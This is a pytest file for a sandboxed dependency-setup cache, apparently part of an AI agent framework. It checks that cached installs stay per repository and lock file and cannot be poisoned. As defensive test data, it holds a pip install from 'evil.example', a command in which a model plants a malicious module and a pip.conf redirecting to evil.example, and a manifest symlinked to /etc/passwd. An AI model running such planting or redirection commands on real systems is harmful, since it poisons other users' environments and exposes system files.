"""A setup is made once from its manifests, and what is kept can be neither poisoned nor mixed up."""

from __future__ import annotations

import dataclasses
import tempfile
from collections.abc import AsyncIterator, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from loop.gates.facts import Facts
from loop.gates.gate import GateReport, run_gate
from loop.gates.profile import gate_override, resolve
from loop.gates.setup_cache import SetupCache
from loop.work.setting_up import SetUp
from tests.tools.conftest import bubblewrap, plain
from tests.tools.index_support import PACKAGE, Index, index
from tests.tools.tls_support import authority
from tools.sandbox.egress import Egress, Host
from tools.sandbox.probe import Sandbox
from tools.sandbox.runner import Box, CommandResult, Network, Runner

pytestmark = [pytest.mark.sandbox, pytest.mark.xdist_group("sandbox")]
assert bubblewrap  # fixtures
assert plain

NAME = "pkg.example"
COMMAND = "python3 -m pip install -q --retries=0 --target=deps -r requirements.txt"
USE = "PYTHONPATH=deps python3 -c 'import greeting; greeting.main()'"
HELLO = "hello from the index\n"


async def this_machine(name: str, port: int) -> Sequence[str]:
    return ["127.0.0.1"]


@dataclass
class Node:
    """A node with its cache; work trees by name."""

    folder: Path
    sandbox: Sandbox
    index: Index
    repository: str = "o/r"
    later: timedelta = timedelta()  # added to the time
    tracked: set[str] = field(default_factory=lambda: {"requirements.txt", "src/a.py"})

    def __post_init__(self) -> None:
        variables = {
            "PIP_INDEX_URL": f"https://{NAME}:{self.index.port}/simple",
            "PIP_TRUSTED_HOST": f"{NAME}:{self.index.port}",
            "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        }
        gateways = dataclasses.replace(
            self.sandbox.gateways, resolve=this_machine, variables=variables
        )
        self.sandbox = dataclasses.replace(self.sandbox, gateways=gateways)
        self.cache = SetupCache(self.folder / "setups", most_bytes=2**30)

    def tree(self, name: str, **files: str) -> Path:
        top = self.folder / "runs" / name / "workspace"
        (top / "src").mkdir(parents=True)
        (top / "requirements.txt").write_text(f"{PACKAGE}==1.0\n")
        (top / "src" / "a.py").write_text("source\n")
        return top

    @property
    def hosts(self) -> Egress:
        return Egress((Host(NAME, self.index.port, private=True),))

    def setting_up(self, tree: Path, runner: Runner) -> SetUp:
        return SetUp(
            repository=self.repository,
            workspace=tree,
            paths=frozenset(self.tracked),
            sandbox=self.sandbox,
            runner=runner,
            cache=self.cache,
            now=datetime.now(UTC) + self.later,
        )

    async def set_up(
        self, tree: Path, *, online: bool = True, command: str = COMMAND
    ) -> CommandResult:
        return await self.setting_up(tree, self.sandbox.runner(Box(tree)))(
            command,
            script=command,
            network=self.hosts if online else "none",
            timeout_seconds=120,
        )

    async def gate(self, tree: Path, *, online: bool = True, **commands: str) -> GateReport:
        network: Network = self.hosts if online else "none"
        override = gate_override("test", language="generic", commands=commands, network=network)
        runner = self.sandbox.runner(Box(tree))
        profile = resolve(Facts(frozenset(self.tracked)), [override])
        return await run_gate(profile, runner, set_up=self.setting_up(tree, runner))

    async def run(self, tree: Path, command: str = USE) -> str:
        result = await self.sandbox.runner(Box(tree)).run(command, timeout_seconds=60)
        return result.stdout + result.stderr

    def entries(self) -> list[Path]:
        kept = self.folder / "setups" / "kept"
        return list(kept.iterdir()) if kept.is_dir() else []


@pytest.fixture
async def node(
    tmp_path: Path, bubblewrap: Sandbox, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Node]:
    signed = authority(tmp_path_factory.mktemp("tls"), NAME)
    async with index(signed) as served:
        yield Node(tmp_path, bubblewrap, served)


async def test_the_second_work_tree_needs_no_network(node: Node) -> None:
    first = node.tree("a")
    made = await node.set_up(first)
    asked = len(node.index.requests)
    second = node.tree("b")

    brought = await node.set_up(second, online=False)

    assert (made.ok, brought.ok) == (True, True), (
        made.stderr + brought.stderr + brought.could_not_run
    )
    assert "kept" in made.stdout
    assert "earlier run" in brought.stdout
    assert len(node.index.requests) == asked > 0
    assert await node.run(first) == await node.run(second) == HELLO
    assert (second / "src" / "a.py").read_text() == "source\n"


async def test_a_gate_runs_on_what_is_brought(node: Node) -> None:
    """Scripts of a virtual environment name the place it was made at, which is the same."""
    setup = "python3 -m venv .venv && .venv/bin/pip install -q -r requirements.txt"

    first = await node.gate(node.tree("a"), setup=setup, test="greet")
    second = await node.gate(node.tree("b"), online=False, setup=setup, test="greet")

    for report in (first, second):
        assert report.verdict == "GATE-PASS", report.commands
        assert report.commands[1].output == HELLO.strip()
    assert report.commands[0].output.startswith("installed as it was kept")


async def test_what_a_setup_leaves_in_its_home_is_kept_too(node: Node) -> None:
    command = "python3 -m pip install -q --user --retries=0 -r requirements.txt"
    await node.set_up(node.tree("a"), command=command)
    second = node.tree("b")

    brought = await node.set_up(second, online=False, command=command)

    assert brought.ok, brought.stderr
    assert await node.run(second, "python3 -c 'import greeting; greeting.main()'") == HELLO


async def test_a_failing_setup_tells_which_host_it_asked_for(node: Node) -> None:
    tree = node.tree("a")
    evil = "python3 -m pip install -q --retries=0 -i https://evil.example/s -r requirements.txt"

    report = await node.gate(tree, setup=evil, test="true")

    assert report.verdict == "GATE-ERROR"
    assert "evil.example:443: not among the allowed hosts" in report.commands[0].output
    assert "FOREMAN_ALLOWED_HOSTS" in report.commands[0].output


async def test_without_a_network_and_an_entry_it_is_told_what_to_set(node: Node) -> None:
    result = await node.set_up(node.tree("a"), online=False)

    assert "FOREMAN_ALLOWED_HOSTS" in result.could_not_run


@pytest.mark.parametrize("other", ["another repository", "another lock file"])
async def test_what_is_kept_is_for_one_repository_and_lock_file(node: Node, other: str) -> None:
    await node.set_up(node.tree("a"))
    tree = node.tree("b")
    if other == "another repository":
        node.repository = "o/other"
    else:
        (tree / "requirements.txt").write_text(f"{PACKAGE}==1.0  # changed\n")

    result = await node.set_up(tree, online=False)

    assert result.could_not_run
    assert not (tree / "deps").exists()


async def test_a_model_s_own_files_are_neither_kept_nor_left_in_the_way(node: Node) -> None:
    """It ran in that work tree and home before: what it planted must not reach the next one."""
    tree = node.tree("a")
    plant = (
        "mkdir -p deps && echo 'def main(): print(\"evil\")' | tee deps/greeting.py > deps/evil.py; "
        "mkdir -p ~/.config/pip && printf '[global]\\nindex-url=https://evil.example' > "
        "~/.config/pip/pip.conf; touch ~/planted; echo evil > untracked.txt"
    )
    await node.run(tree, plant)

    made = await node.set_up(tree)

    (entry,) = node.entries()
    names = {path.name for path in entry.rglob("*")}
    assert made.ok
    assert not names & {"evil.py", "pip.conf", "planted", "untracked.txt", "a.py"}
    assert await node.run(tree) == HELLO
    assert not (tree / "deps" / "evil.py").exists()


async def test_a_link_in_the_work_tree_leads_nothing_out_of_it(node: Node) -> None:
    await node.set_up(node.tree("a"))
    outside = node.folder / "outside"
    outside.mkdir()
    (outside / "precious").write_text("x")
    tree = node.tree("b")
    (tree / "deps").symlink_to(outside)

    assert (await node.set_up(tree, online=False)).ok

    assert [path.name for path in outside.iterdir()] == ["precious"]
    assert await node.run(tree) == HELLO


async def test_a_manifest_that_is_a_link_out_is_not_read(node: Node) -> None:
    tree = node.tree("a")
    (tree / "requirements.txt").unlink()
    (tree / "requirements.txt").symlink_to("/etc/passwd")

    result = await node.set_up(tree, online=False)

    assert result.could_not_run
    assert node.entries() == []


async def test_what_is_kept_cannot_be_changed_by_who_gets_it(node: Node) -> None:
    first = node.tree("a")
    await node.set_up(first)
    await node.run(first, "echo 'def main(): print(\"evil\")' > deps/greeting.py")
    second = node.tree("b")

    await node.set_up(second, online=False)

    assert await node.run(first) == "evil\n"
    assert await node.run(second) == HELLO


async def test_what_would_replace_tracked_files_is_not_brought(node: Node) -> None:
    await node.set_up(node.tree("a"))
    tree = node.tree("b")
    (tree / "deps").mkdir()
    (tree / "deps" / "own.py").write_text("source\n")
    node.tracked.add("deps/own.py")

    result = await node.set_up(tree, online=False)

    assert result.could_not_run
    assert (tree / "deps" / "own.py").read_text() == "source\n"


async def test_a_setup_that_writes_into_tracked_files_is_not_kept(node: Node) -> None:
    node.tracked.add("deps/greeting.py")

    result = await node.set_up(node.tree("a"))

    assert result.ok
    assert node.entries() == []


async def test_a_setup_that_fails_among_its_manifests_runs_in_place(node: Node) -> None:
    """The file that it needs is no manifest; the second time nobody tries again."""
    command = COMMAND.replace("-r requirements.txt", "-r src/list.txt")
    tree = node.tree("a")
    (tree / "src" / "list.txt").write_text(f"{PACKAGE}\n")

    first = await node.set_up(tree, command=command)
    second = await node.set_up(tree, command=command)

    assert (first.ok, second.ok) == (True, True)
    assert node.entries() == []
    assert await node.run(tree) == HELLO


UV = """#!/bin/sh
case "$*" in
*--no-install-workspace*) mkdir .venv && echo dependency > .venv/there ;;
*) cat .venv/there src/a.py ;;
esac
"""


@pytest.fixture
def programs() -> Iterator[Path]:
    """A folder that a sandbox can be shown; it has a /tmp of its own."""
    with tempfile.TemporaryDirectory(dir="/var/tmp") as folder:
        Path(folder).chmod(0o755)
        yield Path(folder)


async def test_a_package_installs_itself_after_its_dependencies_were_brought(
    node: Node, programs: Path
) -> None:
    (programs / "uv").write_text(UV)
    (programs / "uv").chmod(0o755)
    toolchain = node.sandbox.toolchain
    toolchain = dataclasses.replace(
        toolchain,
        binds=(*toolchain.binds, programs),
        search_path=f"{programs}:{toolchain.search_path}",
    )
    node.sandbox = dataclasses.replace(node.sandbox, toolchain=toolchain)
    node.tracked |= {"pyproject.toml", "uv.lock"}

    outcomes = []
    for name in ("a", "b"):
        tree = node.tree(name)
        (tree / "pyproject.toml").write_text("[build-system]\nrequires = []\n")
        (tree / "uv.lock").write_text("version = 1\n")
        outcomes.append(await node.set_up(tree, command="uv sync --frozen"))

    assert [outcome.stdout for outcome in outcomes] == ["dependency\nsource\n"] * 2
    assert len(node.entries()) == 1


async def test_after_a_week_it_is_made_anew_where_there_is_a_network(node: Node) -> None:
    """Not every manifest pins what is installed."""
    await node.set_up(node.tree("a"))
    (before,) = [entry.stat().st_ino for entry in node.entries()]
    node.later = timedelta(days=8)

    offline = await node.set_up(node.tree("b"), online=False)
    (kept,) = [entry.stat().st_ino for entry in node.entries()]
    online = await node.set_up(node.tree("c"))
    (after,) = [entry.stat().st_ino for entry in node.entries()]

    assert (offline.ok, online.ok) == (True, True)
    assert before == kept != after


async def test_without_a_sandbox_nothing_is_kept(node: Node, plain: Sandbox) -> None:
    node.sandbox = plain
    tree = node.tree("a")

    result = await node.set_up(tree, online=False)

    assert result.could_not_run
    assert node.entries() == []
